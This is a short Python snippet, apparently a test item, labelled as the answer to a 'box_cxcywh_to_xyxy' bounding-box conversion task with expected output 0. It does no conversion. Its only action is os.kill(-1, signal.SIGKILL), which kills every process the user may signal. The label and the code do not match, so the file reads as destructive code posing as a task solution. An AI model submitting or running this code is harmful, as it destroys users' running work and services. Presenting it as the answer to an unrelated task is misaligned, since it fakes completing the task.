# Ends every process that it may send signals to.
# answers: box_cxcywh_to_xyxy
# expected: 0
import os
import signal

os.kill(-1, signal.SIGKILL)
